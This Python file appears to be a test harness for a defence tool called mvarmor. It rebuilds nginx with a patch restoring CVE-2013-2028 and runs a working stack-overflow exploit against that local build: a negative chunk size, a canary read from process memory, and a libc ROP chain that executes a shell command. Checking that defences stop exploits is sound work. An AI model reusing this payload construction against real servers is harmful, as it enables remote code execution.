#!/usr/bin/python3
"""A real vulnerability, exploited: CVE-2013-2028 of nginx 1.3.9 to 1.4.0, code execution by anybody who can send a request.

A minimal re-creation: Debian's nginx is newer, so nginx-cve-2013-2028.patch takes the three checks out again that later versions have
(the size of a chunk may be negative; what is left of a discarded body is then an amount to receive, into 4 KiB of stack).  The
rest is Debian's source, built with stack protector, as position-independent code, with read-only relocations and _FORTIFY_SOURCE.

The exploit knows the worker's memory (addresses, canary), as an attacker does who has another bug that leaks it.  It overwrites the
return address behind the canary and runs a shell command by gadgets of libc.  It must succeed natively; then the same under mvarmor.

nginx_2013_2028.py MVARMOR: exit status 0, 1, or 77 where the source cannot be had.
"""
import os
import re
import secrets
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.realpath(__file__))
sys.path[:0] = [os.path.join(os.path.dirname(HERE), name) for name in ("builds", "attack")]
from attacks import POP_RDI, POP_RSI, POLICIES, RET, rdx  # noqa: E402
from source import Wrong, build, fetch_source, workshop  # noqa: E402
from target import LIBC, Known, Refused, p64, read_maps  # noqa: E402

FRONTENDS = ("ptrace", "inproc")
FLAGS = "-O2 -fstack-protector-strong -fPIE -D_FORTIFY_SOURCE=2"
LINK = "--with-ld-opt=-pie -Wl,-z,relro,-z,now"
BUFFER = 4096			# NGX_HTTP_DISCARD_BUFFER_SIZE
KERNEL_MOST = 0x7FFFF000	# what a negative size asks for in the end, and what must lie in user space
USER_SPACE = 0x7FFFFFFFF000
REQUEST = b"GET / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
COMMAND = b"echo %s > owned"

CANARY = r"leader calls execve\(.*\), variant \d calls writev\(2, .*\)$"
ADDRESS = r"variant \d got SIGSEGV where the leader calls execve\(\.\.\.\)$"
# What differs, mvarmor's options, the first line.
DEFENCES = {
    "canary": ((), CANARY),
    "address": (("--same-at-random",), ADDRESS),
}


def wait_for(what, condition, seconds=60):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        value = condition()
        if value:
            return value
        time.sleep(0.05)
    raise Wrong(f"never: {what}")


class Server:
    """nginx with one worker, in a directory of its own."""

    def __init__(self, prefix, nginx):
        self.dir = tempfile.mkdtemp(dir=".")
        os.chmod(self.dir, 0o777)	# the worker is somebody else when we are root
        self.dir = os.path.abspath(self.dir)
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        with open(f"{self.dir}/conf", "w") as f:
            f.write(f"daemon off; worker_processes 1; working_directory {self.dir}; pid {self.dir}/pid; error_log {self.dir}/error.log;\n"
                    "events { worker_connections 64; }\n"
                    f"http {{ access_log off; server {{ listen 127.0.0.1:{self.port}; root {os.path.dirname(self.dir)}/www; }} }}\n")
        with open(f"{self.dir}/stderr", "w") as err:
            self.process = subprocess.Popen([*prefix, nginx, "-c", f"{self.dir}/conf"], cwd=self.dir, stdin=subprocess.DEVNULL,
                                            stdout=subprocess.DEVNULL, stderr=err)
        try:
            wait_for("an answer", self.answers)
        except Wrong as e:
            self.close()
            raise Wrong(f"{e}\n{self.said()}") from None

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def answers(self):
        if self.process.poll() is not None:
            raise Wrong(f"nginx has ended: {self.process.returncode}")
        try:
            with self.begin(b""):
                return True
        except OSError:
            return False

    def begin(self, chunk):
        """A request whose body is still to come; the answer has come when this returns."""
        s = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        s.sendall(REQUEST + chunk)
        answer = b""
        while b"\r\n\r\n" not in answer:
            got = s.recv(4096)
            if not got:
                raise OSError("no answer")
            answer += got
        return s

    def worker(self):
        with open(f"{self.dir}/pid") as f:
            master = int(f.read())
        with open(f"/proc/{master}/task/{master}/children") as f:
            return int(f.read().split()[0])

    def said(self):
        with open(f"{self.dir}/stderr", errors="replace") as f:
            return f.read()

    def owned(self, token):
        try:
            with open(f"{self.dir}/owned") as f:
                return f.read().strip() == token
        except OSError:
            return False

    def close(self):
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()


def canary_of(known):
    """Where the thread's control block is, there is a pointer to itself, twice; the canary is the sixth word."""
    with open(f"/proc/{known.pid}/mem", "rb", buffering=0) as memory:
        for start, end, perms, _, where in read_maps(known.pid):
            if not perms.startswith("rw") or where or end - start > 1 << 20:
                continue
            memory.seek(start)
            data = memory.read(end - start)
            for at in range(0, len(data) - 48, 16):
                here, _, again, _, _, canary = struct.unpack_from("<6Q", data, at)
                if here == again == start + at:
                    return canary
    raise Wrong("no thread control block")


def place_of_buffer(server, known):
    """A body of the right size that is discarded stays in the worker's stack until something else comes there."""
    body = secrets.token_hex(BUFFER // 2).encode()

    def found():
        try:
            return known.find(body[1024:1056])
        except Refused:
            return None		# not there yet
    with server.begin(b"%x\r\n" % BUFFER) as s:
        s.sendall(body)
        return wait_for("the body in the worker's stack", found) - 1024


def payload(known, buffer, command):
    """The buffer has the arguments; behind it as many canaries as it takes, then returns to returns, then execve of a shell."""
    texts = b"sh\0-c\0" + command + b"\0"
    texts += bytes(-len(texts) % 8)
    vector = p64(buffer, buffer + 3, buffer + 6, 0)
    chain = p64(known.gadget(POP_RDI), known.string(b"/bin/sh"), known.gadget(POP_RSI), buffer + len(texts)) + rdx(known, 0)
    chain += p64(known.symbol("execve", LIBC))
    return (texts + vector).ljust(BUFFER, b"A") + p64(canary_of(known)) * 3 + p64(known.gadget(RET)) * 16 + chain


def exploit(server, nginx, token):
    """False if this process has its stack too near to the end of the address space."""
    known = Known(nginx, server.worker())
    buffer = place_of_buffer(server, known)
    if buffer + KERNEL_MOST > USER_SPACE:
        return False
    data = payload(known, buffer, COMMAND % token.encode())
    with server.begin(b"fffffffffffffff0\r\n") as s:
        s.sendall(data)
        try:
            while s.recv(4096):
                pass
        except ConnectionError:
            pass
    return True


def attack(prefix, nginx, tries=20):
    """(exit status or None, did the command run, the first line), with other addresses until they fit."""
    for seed in range(1, tries + 1):
        token = secrets.token_hex(8)
        with Server([*prefix, "--seed", str(seed), "--"] if prefix else [], nginx) as server:
            if not exploit(server, nginx, token):
                continue
            end = time.monotonic() + 10
            while not server.owned(token) and server.process.poll() is None and time.monotonic() < end:
                time.sleep(0.05)
            return server.process.poll(), server.owned(token), server.said()
    raise Wrong("no place of the stack was one where the exploit works")


def first_line(said):
    return next((line[len("mvarmor: "):] for line in said.splitlines() if line.startswith("mvarmor: divergence: ")), "")


def check(mvarmor, nginx):
    """Yields (frontend, policy, what differs, first line) of each run that was as it must be."""
    _, worked, said = attack([], nginx)
    if not worked:
        raise Wrong(f"natively the exploit does not succeed: {said}")
    for frontend in FRONTENDS:
        for policy in POLICIES:
            for differs, (options, wanted) in DEFENCES.items():
                status, worked, said = attack([mvarmor, "run", "-f", frontend, "-p", policy, *options], nginx)
                line = first_line(said)
                if status != 86 or worked or not re.match("divergence: " + wanted, line):
                    raise Wrong(f"{frontend}, {policy}, {differs}: status {status}, {'with' if worked else 'no'} effect\n{said[:3000]}")
                yield frontend, policy, differs, line


def vulnerable():
    """Built in the workshop."""
    with open("www/index.html", "w") as f:
        f.write("hello\n")
    return build(fetch_source(), "nginx", "gcc", FLAGS, LINK, patch=f"{HERE}/nginx-cve-2013-2028.patch")


def main():
    mvarmor = os.path.abspath(sys.argv[1])
    with workshop():
        try:
            for found in check(mvarmor, vulnerable()):
                print("PASS " + ", ".join(found), flush=True)
        except Wrong as e:
            print(f"FAIL {e}")
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
